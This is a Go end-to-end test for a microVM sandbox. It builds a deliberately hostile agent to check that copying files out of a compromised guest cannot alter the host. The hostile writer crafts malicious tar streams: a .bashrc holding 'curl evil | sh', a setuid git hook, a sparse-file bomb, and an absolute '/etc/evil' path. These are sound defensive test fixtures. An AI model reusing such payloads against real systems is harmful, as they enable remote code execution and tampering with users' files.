package e2e

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mvm-sandbox/mvm/internal/testbin"
)

// hostileWriter replaces internal/safetar/write.go in a compromised agent
// (the workload became root in the guest and replaced the agent): its
// ArchiveOut ignores the path asked for and sends a stream chosen by the
// path's base name.
const hostileWriter = `package safetar

import (
	"archive/tar"
	"bytes"
	"errors"
	"io"
	"path/filepath"
	"time"
)

func Write(w io.Writer, src string) (*Stats, error) {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	add := func(name string, typ byte, mode int64, data string, pax map[string]string) {
		tw.WriteHeader(&tar.Header{Name: name, Typeflag: typ, Mode: mode, Size: int64(len(data)),
			ModTime: time.Unix(1700000000, 0), PAXRecords: pax})
		tw.Write([]byte(data))
	}
	switch filepath.Base(src) {
	case "bashrc":
		add(".bashrc", tar.TypeReg, 0o644, "curl evil | sh\n", nil)
	case "git":
		add(".git/", tar.TypeDir, 0o777, "", nil)
		add(".git/hooks/", tar.TypeDir, 0o777, "", nil)
		add(".git/hooks/pre-commit", tar.TypeReg, 0o4777, "evil\n", nil)
	case "sparse":
		m := "1\n0\n512\n"
		data := m + string(make([]byte, 512-len(m))) + string(bytes.Repeat([]byte{'A'}, 512))
		add("sparse/", tar.TypeDir, 0o755, "", nil)
		add("sparse/bomb", tar.TypeReg, 0o644, data, map[string]string{"GNU.sparsX.major": "1",
			"GNU.sparsY.minor": "0", "GNU.sparsZ.realsize": "67108864"})
	case "partial":
		add("partial/", tar.TypeDir, 0o777, "", nil)
		add("partial/planted", tar.TypeReg, 0o644, "planted\n", nil)
		add("partial/keep", tar.TypeReg, 0o644, "replaced\n", nil)
		add("/etc/evil", tar.TypeReg, 0o644, "x", nil)
	default:
		return nil, errors.New("hostile agent: unknown stream")
	}
	tw.Close()
	out := b.Bytes()
	for _, k := range []string{"X", "Y", "Z"} {
		out = bytes.Replace(out, []byte("GNU.spars"+k+"."), []byte("GNU.sparse."), 1)
	}
	_, err := w.Write(out)
	return &Stats{}, err
}
`

// TestCpOutCompromisedAgent boots the minimal image with an agent whose
// tar writer is hostile (built from the real agent with `go build
// -overlay`), and copies out of it: the guest chooses nothing on the host.
func TestCpOutCompromisedAgent(t *testing.T) {
	dir := t.TempDir()
	writer := filepath.Join(dir, "write.go")
	os.WriteFile(writer, []byte(hostileWriter), 0o644)
	overlay := filepath.Join(dir, "overlay.json")
	os.WriteFile(overlay, []byte(`{"Replace":{"`+filepath.Join(testbin.Root(), "internal", "safetar", "write.go")+`":"`+writer+`"}}`), 0o644)
	agentBin := filepath.Join(dir, "mvm-agent")
	build := exec.Command("go", "build", "-overlay", overlay, "-o", agentBin, "./cmd/mvm-agent")
	build.Dir = testbin.Root()
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build hostile agent: %v\n%s", err, out)
	}
	e := newEnv(t)
	e.extra = append(e.extra, "MVM_AGENT_BIN="+agentBin)
	e.must("up", "--name", "cpa")
	defer func() {
		e.must("down", "cpa")
		e.assertClean()
	}()

	// A checkout-like destination the guest would like to change.
	dst := t.TempDir()
	os.WriteFile(filepath.Join(dst, ".bashrc"), []byte("mine\n"), 0o644)
	os.MkdirAll(filepath.Join(dst, ".git", "hooks"), 0o755)
	os.Mkdir(filepath.Join(dst, "partial"), 0o750)
	os.WriteFile(filepath.Join(dst, "partial", "keep"), []byte("mine\n"), 0o600)
	list := func() string {
		var out []string
		filepath.Walk(dst, func(p string, fi os.FileInfo, err error) error {
			if err == nil {
				rel, _ := filepath.Rel(dst, p)
				out = append(out, rel+" "+fi.Mode().String())
			}
			return nil
		})
		return strings.Join(out, "\n")
	}

	// The guest names its member .bashrc: it lands as dst/bashrc, the
	// name asked for, and ~/.bashrc stays.
	e.must("cp", "cpa:/tmp/bashrc", dst)
	if b, _ := os.ReadFile(filepath.Join(dst, ".bashrc")); string(b) != "mine\n" {
		t.Errorf(".bashrc replaced by the guest: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(dst, "bashrc")); string(b) != "curl evil | sh\n" {
		t.Errorf("the stream did not land under the requested name: %q", b)
	}
	// The guest sends .git (0777) with a setuid hook: it lands as dst/git,
	// modes clamped, and .git is untouched.
	e.must("cp", "cpa:/tmp/git", dst)
	if fi, err := os.Stat(filepath.Join(dst, ".git")); err != nil || fi.Mode().Perm() != 0o755 {
		t.Errorf(".git changed: %v %v", fi.Mode(), err)
	}
	if _, err := os.Lstat(filepath.Join(dst, ".git", "hooks", "pre-commit")); !os.IsNotExist(err) {
		t.Errorf("hook planted in .git: %v", err)
	}
	for p, want := range map[string]os.FileMode{"git": os.ModeDir | 0o755, "git/hooks": os.ModeDir | 0o755, "git/hooks/pre-commit": 0o755} {
		if fi, err := os.Lstat(filepath.Join(dst, p)); err != nil || fi.Mode() != want {
			t.Errorf("%s: mode %v %v, want %v", p, fi.Mode(), err, want)
		}
	}
	before := list()
	// A sparse bomb is refused (exit 9) and leaves nothing.
	if r := e.expect(9, "cp", "cpa:/tmp/sparse", dst); !strings.Contains(r.stderr, "sparse") {
		t.Errorf("sparse: %q", r.stderr)
	}
	// A stream that plants and replaces files in an existing directory,
	// then fails: the directory is as it was.
	e.expect(9, "cp", "cpa:/tmp/partial", dst)
	if after := list(); after != before {
		t.Errorf("refused copies changed the destination:\n%s\nwas:\n%s", after, before)
	}
	if b, _ := os.ReadFile(filepath.Join(dst, "partial", "keep")); string(b) != "mine\n" {
		t.Errorf("partial/keep replaced: %q", b)
	}
}
